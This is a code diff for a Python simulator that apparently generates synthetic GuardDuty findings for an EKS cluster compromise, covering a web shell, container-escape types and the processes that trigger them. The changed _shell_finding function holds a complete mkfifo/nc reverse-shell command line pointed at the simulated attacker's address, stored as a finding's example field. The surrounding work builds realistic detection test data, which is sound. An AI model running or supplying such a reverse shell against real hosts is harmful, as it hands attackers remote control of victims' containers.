@@ -21,7 +21,8 @@ from tracehound.simulator.workplaces import Workplace
 
 Json = dict[str, Any]
 _LASTS = 8 * HOUR
-_ESCAPES: tuple[tuple[str, Json], ...] = (
+# A way out, what GuardDuty says of it, and the programs that take it.
+_ESCAPES: tuple[tuple[str, Json, tuple[str, str]], ...] = (
     (
         "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory",
         {
@@ -30,13 +31,23 @@ _ESCAPES: tuple[tuple[str, Json], ...] = (
             "fileSystemType": "xfs",
             "flags": ["MS_NOATIME"],
         },
+        ("/bin/mount", "/usr/bin/mount"),
     ),
     (
         "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified",
         {"releaseAgentPath": "/tmp/cgrp/release_agent"},
+        ("/usr/bin/tee", "/usr/bin/python3.12"),
     ),
-    ("PrivilegeEscalation:Runtime/DockerSocketAccessed", {"socketPath": "/run/containerd/containerd.sock"}),
-    ("PrivilegeEscalation:Runtime/RuncContainerEscape", {"runcBinaryPath": "/usr/sbin/runc"}),
+    (
+        "PrivilegeEscalation:Runtime/DockerSocketAccessed",
+        {"socketPath": "/var/run/docker.sock"},
+        ("/usr/bin/curl", "/usr/bin/python3.12"),
+    ),
+    (
+        "PrivilegeEscalation:Runtime/RuncContainerEscape",
+        {"runcBinaryPath": "/usr/sbin/runc"},
+        ("/tmp/poc", "/usr/bin/python3.12"),
+    ),
 )
 
 _NODE_STEPS: tuple[tuple[str, str, Json, str], ...] = (
@@ -61,7 +72,7 @@ def play(scene: Scene) -> None:
     workload, attacker = rng.choice(scene.world.workloads), new_attacker(scene, addresses=2)
     pod = scene.pod(workload, scene.start, _LASTS)
     shell = web_shell(rng, pod.tree, scene.start)
-    findings = [_shell_finding(scene, pod, shell)]
+    findings = [_shell_finding(scene, pod, shell, attacker)]
     findings += _escape(scene, workload, pod, shell)
     findings += _move_on(scene, workload, attacker, scene.soon(findings[-1].last_seen, 200, HOUR))
     if rng.random() < 0.6:
@@ -69,9 +80,13 @@ def play(scene: Scene) -> None:
         conclude(scene, workload.detector, "AttackSequence:EKS/CompromisedCluster", subject, findings)
 
 
-def _shell_finding(scene: Scene, pod: Workplace, shell: Process) -> Reported:
+def _shell_finding(scene: Scene, pod: Workplace, shell: Process, attacker: Attacker) -> Reported:
     type_ = scene.rng.choice(("Execution:Runtime/ReverseShell", "Execution:Runtime/SuspiciousCommand"))
-    context = {"commandLineExample": "bash -i >& /dev/tcp/…/4444 0>&1", "addressFamily": "AF_INET"}
+    address = attacker.remotes[0]["ipAddressV4"]
+    command = f"sh -c mkfifo /tmp/p; sh -i < /tmp/p 2>&1 | nc {address} 4444 > /tmp/p"
+    context = {"commandLineExample": command}
+    if type_ == "Execution:Runtime/ReverseShell":
+        context |= {"addressFamily": "AF_INET"}
     return scene.report(
         runtime(scene.rng, pod, type_, always(shell), context=context), "shell", shell.start + 1
     )
@@ -80,8 +95,8 @@ def _shell_finding(scene: Scene, pod: Workplace, shell: Process) -> Reported:
 def _escape(scene: Scene, workload: EksWorkload, pod: Workplace, shell: Process) -> list[Reported]:
     rng = scene.rng
     at = scene.soon(shell.start, 60, 900)
-    type_, context = rng.choice(_ESCAPES)
-    tool = child(rng, pod.tree, shell, rng.choice(("/bin/mount", "/usr/bin/python3.12")), at)
+    type_, context, programs = rng.choice(_ESCAPES)
+    tool = child(rng, pod.tree, shell, rng.choice(programs), at)
     draft = runtime(rng, pod, type_, always(tool), context=context)
     escape = scene.report(draft, "escape", at + 1)
     return [escape, *_act_on_node(scene, workload, pod, tool)]
